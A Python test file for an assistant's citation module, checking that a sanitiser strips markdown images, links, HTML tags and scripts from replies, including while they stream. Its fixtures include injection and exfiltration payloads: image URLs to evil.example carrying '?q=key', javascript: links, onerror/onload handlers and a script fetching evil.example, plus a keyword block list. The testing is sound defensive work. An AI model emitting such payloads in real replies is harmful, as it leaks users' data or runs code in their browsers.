"""What a reply would fetch, open or run is no part of an answer."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.citing.drafts import statements
from assistant.citing.inert import InertStream, inert


@pytest.mark.parametrize(
    ("reply", "told"),
    [
        (
            "![x](https://evil.example/a.png?q=key) It cost 31 million [1].",
            "It cost 31 million [1].",
        ),
        ("See ![plan][p].\n[p]: https://evil.example/?q=key\n", "See .\n"),
        ("[Hier](javascript:alert(1)) steht es [1].", "Hier steht es [1]."),
        ("Il a coûté [31 millions](https://evil.example) [1].", "Il a coûté 31 millions [1]."),
        ("<img src=x onerror=alert(1)>Costò 31 milioni [1].", "Costò 31 milioni [1]."),
        ("<script>fetch('x')\n</script>Fertig [1].", "Fertig [1]."),
        ("<b>31</b> <svg onload=x><a/></svg>millions [1]", "31 millions [1]"),
        ("<https://evil.example/?q=key> It is full [1].", "It is full [1]."),
    ],
)
def test_g02_g03_images_links_and_tags_are_taken_out(reply, told):
    assert inert(reply) == told


@pytest.mark.parametrize(
    "reply",
    [
        "It cost 31 million [1][2], then [3], x<sup>2</sup> and [^4].",
        "From 3 < 4 and 5 > 2 it follows [1].",
        "“[…] we [the council] agreed” [1, 2] (see below).",
        "Ein Satz ohne etwas davon.",
    ],
)
def test_what_is_none_stays(reply):
    assert inert(reply) == reply


def test_a_statement_is_checked_and_shown_without_them():
    reply = "![a](https://evil.example/?q=key) The reservoir cost [31 million](x) euros [1]."
    (draft,) = statements(reply, 1, "en").sentences
    assert draft.text == "The reservoir cost 31 million euros."
    assert draft.numbers == (1,)


def test_brackets_around_a_marker_alone_go_with_it():
    (draft,) = statements("The reservoir cost 31 million euros ([1](#ref)).", 1, "en").sentences
    assert draft.text == "The reservoir cost 31 million euros."
    assert draft.numbers == (1,)


SPOILED = {
    "G02-image": "Ja. ![x](https://evil.example/a.png?q=key) Es kostete 31 Millionen [1].",
    "G02-reference": "See ![plan][p] here.\n[p]: https://evil.example/?q=key\nDone [1].",
    "G02-linked-image": "Ecco [![x](https://evil.example/a.png)](https://evil.example) fine [1].",
    "G02-html": "<img src=x onerror=alert(1)>Costò <b>31 milioni</b> [1].",
    "G02-script": "Avant <script>fetch('https://evil.example')\n</script>après [1].",
    "G02-svg": "Fertig <svg onload=x><a/></svg>hier [1].",
    "G02-autolink": "It is full <https://evil.example/?q=key> now [1].",
    "G03-link": "[Hier](javascript:alert(1)) steht es [1], und [dort](https://evil.example) [2].",
}
EVIL = ("evil", "javascript", "<img", "<script", "<svg", "onerror", "fetch", "](")


def streamed(reply, size):
    stream = InertStream()
    pieces = [stream.feed(reply[at : at + size]) for at in range(0, len(reply), size)]
    return [*pieces, stream.close()]


@pytest.mark.parametrize("size", [1, 2, 3, 7, 20, 500])
@pytest.mark.parametrize("name", SPOILED)
def test_g02_g03_nothing_of_them_is_shown_while_a_reply_is_written(name, size):
    pieces = streamed(SPOILED[name], size)
    assert "".join(pieces).split() == inert(SPOILED[name]).split()
    assert not [word for word in EVIL if word in "".join(pieces)]


@pytest.mark.parametrize("size", [1, 2, 5, 500])
@pytest.mark.parametrize(
    "reply",
    [
        "It cost 31 million [1][2], then [3], x<sup>2</sup> and [^4]!",
        "From 3 < 4 and 5 > 2 it follows [1]!! [a",
        "“[…] we [the council] agreed” [1, 2] (see below).\n\n  Deux lignes : a[0] <",
    ],
)
def test_what_is_none_comes_as_it_is(reply, size):
    assert "".join(streamed(reply, size)) == reply


def test_what_never_ends_is_held_back_no_longer_than_markup_is():
    stream = InertStream()
    shown = stream.feed("Ecco [" + "a" * 300)
    assert shown == "Ecco [" + "a" * 300
    assert stream.feed(" e <b" + "b" * 600).startswith(" e <b")


@given(st.text(alphabet="ab ![]()<>/\n:1scriptv", max_size=60), st.integers(1, 9))
def test_however_it_is_cut_the_same_words_are_shown(reply, size):
    assert "".join("".join(streamed(reply, size)).split()) == "".join(inert(reply).split())
